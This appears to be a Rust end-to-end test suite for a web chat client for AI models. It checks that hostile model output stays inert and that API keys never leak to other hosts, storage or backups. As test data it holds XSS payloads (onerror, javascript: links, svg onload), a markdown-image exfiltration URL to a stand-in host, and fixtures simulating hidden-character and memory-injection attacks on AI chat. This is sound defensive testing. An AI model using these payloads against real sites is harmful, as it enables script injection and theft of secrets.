//! Hostile text, and where a key may go.

use crate::data::{backup, erase_all};
use e2e::bed::{Bed, wait_for};
use e2e::page::{Lang, Page, SOON, done};
use e2e::run::Scenario;
use e2e::server::Origin;
use e2e::webdriver::ENTER;
use serde_json::{Value, json};

pub const ALL: &[Scenario] = &[
    Scenario::everywhere("hostile_markup_stays_text", hostile),
    Scenario::chromium("hostile_text_is_inert_on_every_surface", surfaces),
    Scenario::chromium("a_key_goes_nowhere_else", key),
    Scenario::chromium("a_changed_address_asks_for_the_key_again", moved),
    Scenario::chromium("a_file_sets_no_key_address_or_memory_by_itself", file),
    Scenario::chromium("nothing_remote_is_loaded", nothing_remote),
];

/// What must not be in a page: elements that run, load or send; handlers; addresses that run; a set global.
const AUDIT: &str = "
    const bad = [];
    if (window.__XSS__ !== undefined) bad.push('ran: ' + window.__XSS__);
    const banned = 'script,iframe,frame,object,embed,form[action],link,style,base,meta,video,audio,img,image,foreignObject,portal,template,noscript';
    for (const place of document.querySelectorAll('.prose, .words, .list, #results, h1, .fault, .banner, .notices, .panel')) {
      for (const one of place.querySelectorAll(banned)) bad.push(one.outerHTML.slice(0, 200));
      for (const one of place.querySelectorAll('*')) for (const at of one.attributes) {
        if (/^on/i.test(at.name) || at.name === 'style' || at.name === 'srcdoc' || at.name === 'ping') bad.push(one.localName + ' ' + at.name);
        if (/^(href|src|action|formaction|xlink:href|data)$/i.test(at.name) && !/^(https?:|mailto:|tel:|#|\\.\\/)/i.test(at.value)) bad.push(at.name + '=' + at.value);
      }
    }
    return bad;";

fn audit(page: &Page, what: &str) {
    let bad = page.js(AUDIT, &[]);
    assert_eq!(bad, json!([]), "{what}");
}

fn hostile(bed: &mut Bed) {
    let page = bed.page();
    page.open("");
    page.connect(&bed.model.base(), "hostile:delay=1", "");
    page.send("给我看看");
    page.wait_for_words();
    // Every state on the way counts, not the last one alone.
    while page.last().end == "streaming" {
        audit(&page, "while it streams");
    }
    audit(&page, "when it is over");
    assert_eq!(page.last().end, "complete");
    assert!(page.has(".image-gate"), "images are named placeholders");
    page.reload();
    page.wait_for_reply(SOON);
    audit(&page, "after a reload");
    for model in ["unicode-tags", "inject-memory"] {
        page.choose(model);
        page.ask("再来");
        audit(&page, model);
    }
    assert!(
        page.has(".prose .mark, .prose mark, .prose [data-mark]"),
        "hidden characters are marked"
    );
    assert!(
        bed.model.log().leaks().is_empty(),
        "{:?}",
        bed.model.log().leaks()
    );
}

fn surfaces(bed: &mut Bed) {
    let page = bed.page();
    page.open("");
    page.connect(&bed.model.base(), "echo", "");
    let host = bed.model.other_host();
    let texts = [
        "<img src=x onerror=window.__XSS__=1>".to_owned(),
        format!("![x](http://{host}/exfil/echo?q=SECRET)"),
        "[x](javascript:window.__XSS__=2)".to_owned(),
        "\"><svg onload=window.__XSS__=3>".to_owned(),
    ];
    for text in &texts {
        page.new_chat();
        page.ask(text);
        audit(&page, text);
        page.poke("article[data-role=assistant] [data-action=quote]");
        page.fill("input#search", &text.chars().take(6).collect::<String>());
        page.wait("#results .hit");
        audit(&page, text);
        page.fill("input#search", " ");
        page.js("document.querySelector('input#search').value = ''; document.querySelector('input#search').dispatchEvent(new InputEvent('input', { bubbles: true }))", &[]);
    }
    for model in ["html-200", "http-403-html"] {
        page.new_chat();
        page.choose(model);
        page.ask("网页");
        audit(&page, model);
    }
    page.reload();
    audit(&page, "after a reload");
    assert!(
        bed.model.log().leaks().is_empty(),
        "{:?}",
        bed.model.log().leaks()
    );
}

fn key(bed: &mut Bed) {
    let secret = "sk-e2e-Wandering0123456789";
    let page = bed.page();
    page.open("");
    page.connect(&bed.model.base(), "ok", secret);
    for model in [
        "ok",
        "redirect-cross",
        "redirect-307",
        "redirect-302",
        "redirect-loop",
        "auth-echo",
        "hostile",
    ] {
        page.new_chat();
        page.choose(model);
        page.ask("带着密钥");
    }
    for entry in bed.model.log().entries() {
        let only_header = !entry.path.contains(secret) && !entry.body.contains(secret);
        assert!(
            only_header,
            "the key stands in {} {}",
            entry.method, entry.path
        );
        assert!(
            entry.origin == Origin::Model || !entry.carries(secret),
            "the key went to the other origin"
        );
    }
    assert!(
        bed.model.log().leaks().is_empty(),
        "nothing at all goes to the other origin"
    );
    nowhere(&page, secret);
}

/// A key stands nowhere that is shown, kept, given out or told to the console, in no form; but in its own place.
#[track_caller]
pub fn nowhere(page: &Page, secret: &str) {
    let mut places = vec![("the backup", backup(page, false))];
    for store in [
        "conversations",
        "messages",
        "drafts",
        "connections",
        "kv",
        "cases",
        "usage",
        "rates",
    ] {
        places.push((store, Value::from(page.stored(store)).to_string()));
    }
    let seen = page.text_of(
        "const fields = [...document.querySelectorAll('input:not([type=password]), textarea')].map((field) => field.value);\
         return [document.documentElement.outerHTML, ...fields, JSON.stringify(performance.getEntries()),\
                 JSON.stringify({ ...localStorage, ...sessionStorage }), document.title, location.href].join('\\n')",
        &[],
    );
    places.push(("the page", seen));
    places.push(("the console", done(page.session.console()).join("\n")));
    for (place, text) in places {
        for form in forms(secret) {
            let at = text.to_lowercase().find(&form.to_lowercase());
            let around = at.map(|at| text.get(at.saturating_sub(80)..at + form.len()));
            assert!(at.is_none(), "{form} stands in {place}: {around:?}");
        }
    }
}

/// The ways in which a key could be written down.
fn forms(secret: &str) -> [String; 3] {
    use base64::Engine as _;
    let base64 = base64::engine::general_purpose::STANDARD_NO_PAD.encode(secret);
    let percent = secret.bytes().map(|byte| format!("%{byte:02X}")).collect();
    [secret.to_owned(), base64, percent]
}

fn moved(bed: &mut Bed) {
    let page = bed.page();
    page.open("");
    page.connect(&bed.model.base(), "ok", "sk-e2e-stays");
    page.go("#/settings/connections");
    page.click(".connections a.connection:not([href$='/demo'])");
    let other = format!("http://{}/v1", bed.model.other_host());
    page.fill("#connection-base", &other);
    page.wait("main form .wrong[role=alert]");
    assert!(
        page.text("main form .wrong[role=alert]")
            .contains(&bed.model.other_host()),
        "the new host is named"
    );
    page.click("#connection-fetch");
    page.click("#connection-save");
    page.wait_text("#connection-said", &bed.model.other_host());
    assert!(
        page.stored("connections")
            .iter()
            .all(|row| row["base"] == json!(bed.model.base())),
        "nothing is saved"
    );
    assert!(bed.model.log().leaks().is_empty(), "nothing is sent");
    // A choice of provider is a change of address, too; the doctor asks nothing then.
    page.js(
        "const field = document.querySelector('#connection-preset'); field.value = 'openai'; field.dispatchEvent(new Event('change', { bubbles: true }))",
        &[],
    );
    page.wait_text("main form .wrong[role=alert]", "api.openai.com");
    assert!(page.has("#doctor-check:disabled"));
    // Back at the host that has the key nothing is asked.
    page.replace("#connection-base", &bed.model.base());
    page.wait_gone("main form .wrong[role=alert]");
    // Elsewhere a key that is typed for it goes there, and the old one nowhere.
    page.replace("#connection-base", &other);
    page.fill("#connection-key", "sk-e2e-is-new-there");
    page.wait_gone("main form .wrong[role=alert]");
    page.fill("#connection-model", "ok");
    page.click("#connection-save");
    wait_for("it is saved", SOON, || {
        (page.stored("connections")[0]["base"] == json!(other)).then_some(())
    });
    page.go("#/");
    page.ask("ok?");
    for entry in bed.model.log().entries() {
        assert!(entry.origin == Origin::Model || !entry.carries("sk-e2e-stays"));
        assert!(entry.origin == Origin::Other || !entry.carries("sk-e2e-is-new-there"));
    }
}

/// A backup in which a connection leads elsewhere: one click takes it, and no key goes along that is not in the file.
fn file(bed: &mut Bed) {
    let secret = "sk-e2e-NotInTheFile0123456789";
    let page = bed.page();
    page.open("");
    page.set_language(Lang::En);
    page.go("#/memory");
    page.wait("[data-board=read]");
    page.fill("#board-add", "我喜欢下雨天");
    page.type_into("#board-add", ENTER);
    wait_for("the sentence is kept", SOON, || {
        (page.stored("memory").len() == 1).then_some(())
    });
    page.connect(&bed.model.base(), "ok", secret);
    assert!(backup(&page, true).contains(secret));
    page.wait("main .wrong[role=alert]");
    let plain = backup(&page, false);
    assert!(!plain.contains(secret) && !page.has("main .wrong[role=alert]"));
    let elsewhere = plain.replace(&bed.model.host(), &bed.model.other_host());
    assert_ne!(plain, elsewhere);

    let before = ["connections", "keys"].map(|store| page.stored(store));
    restore(&page, &elsewhere);
    assert_eq!(
        before,
        ["connections", "keys"].map(|store| page.stored(store))
    );
    take(&page, &bed.model.other_host());
    wait_for("the connection is the one of the file", SOON, || {
        let rows = Value::from(page.stored("connections")).to_string();
        rows.contains(&bed.model.other_host()).then_some(())
    });
    assert!(
        page.stored("keys").is_empty(),
        "the key stays with its host"
    );
    page.go("#/");
    page.ask("where does it go?");
    let asked = bed.model.log().asked("ok");
    assert!(asked.iter().all(|entry| entry.origin == Origin::Other) && !asked.is_empty());
    assert!(
        asked.iter().all(|entry| !entry.carries(secret)),
        "{asked:?}"
    );

    erase_all(&page, "erase");
    restore(&page, &plain);
    for store in ["connections", "keys", "memory", "memory_log"] {
        assert!(page.stored(store).is_empty(), "{store} without a click");
    }
    take(&page, "下雨天");
    wait_for("it is remembered", SOON, || {
        (page.stored("memory").len() == 1).then_some(())
    });
    assert!(page.stored("connections").is_empty());
}

pub fn restore(page: &Page, file: &str) {
    page.go("#/settings/data");
    page.wait("#restore");
    page.js(
        "const all = new DataTransfer(); all.items.add(new File([arguments[0]], 'viewfinder-backup.jsonl'));
         const field = document.getElementById('restore'); field.files = all.files; field.dispatchEvent(new Event('change', { bubbles: true }))",
        &[json!(file)],
    );
    page.wait_text("#restored", "conversations added");
}

/// Clicks on the offer that has these words.
fn take(page: &Page, words: &str) {
    let code = "const row = [...document.querySelectorAll('main .actions')].find((row) => row.innerText.includes(arguments[0])); row?.querySelector('button')?.click(); return !!row";
    wait_for(words, SOON, || {
        (page.js(code, &[json!(words)]) == json!(true)).then_some(())
    });
}

fn nothing_remote(bed: &mut Bed) {
    let page = bed.page();
    page.open("");
    page.ask("给我看看代码、表格和公式");
    let names = page.js(
        "return performance.getEntriesByType('resource').map((entry) => entry.name)",
        &[],
    );
    let root = bed.files.root();
    for name in names
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(Value::as_str)
    {
        assert!(
            name.starts_with(&root) || name.starts_with("data:") || name.starts_with("blob:"),
            "{name}"
        );
    }
    assert!(bed.model.log().entries().is_empty());
}
